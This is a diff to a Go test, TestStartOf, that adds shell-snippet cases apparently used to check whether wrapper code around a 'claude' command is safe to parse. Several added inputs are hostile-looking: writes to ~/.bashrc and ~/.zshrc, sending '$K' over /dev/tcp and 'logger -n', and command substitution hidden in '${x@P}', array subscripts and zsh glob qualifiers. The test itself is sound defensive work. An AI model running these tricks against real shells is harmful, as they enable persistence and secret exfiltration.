@@ -23,6 +23,7 @@ func TestStartOf(t *testing.T) {
 		`[[ -t 1 ]] && stty -ixon; command claude "$@"; local rc=$?; stty ixon; return $rc`:                "claude",
 		`echo start >> ~/x.log; date > /dev/tty; claude; notify-send done &`:                               "claude",
 		`local r; r=$(git rev-parse --show-toplevel); [ -n "$r" ] && echo "in $r"; claude "$@"`:            "claude",
+		`echo x 2>&1; { date; } >&2; logger -t x '[a] $(b)'; [ "$x" -gt 2 ]; claude`:                       "claude",
 		// What does more.
 		`r=$(./x); claude`:                             "r claude",
 		`http_proxy=x; claude`:                         "http_proxy claude",
@@ -43,6 +44,21 @@ func TestStartOf(t *testing.T) {
 		`echo $((PATH=1)); claude`:                     "",
 		`date | tee x; claude`:                         "",
 		`echo x`:                                       "",
+		`echo x >& ~/.bashrc; claude`:                  "",
+		`echo "$(echo x >&$HOME/.bashrc)"; claude`:     "",
+		`claude; echo x >& ~/.bashrc`:                  "",
+		`echo x {PATH}>/dev/null; claude`:              "",
+		`echo "$K" > /dev/tcp/h/1/a.log; claude`:       "",
+		`local x='$(./x)'; echo "${x@P}"; claude`:      "",
+		`[[ 'a[$(./x)]' -eq 0 ]]; claude`:              "",
+		`test -v 'a[$(./x)]'; claude`:                  "",
+		`[ -v "a[\$(./x)]" ]; claude`:                  "",
+		`echo *(e:'./x':); claude`:                     "",
+		`commands[claude]=./x; claude`:                 "commands claude",
+		`argv=(-p x); claude "$@"`:                     "argv claude",
+		`precmd_functions=(./x); claude`:               "precmd_functions claude",
+		`logger -n example.org "$K"; claude`:           "",
+		`say -o ~/.zshrc x; claude`:                    "",
 	} {
 		l, _, ok := StartOf(text, "/h")
 		got := ""
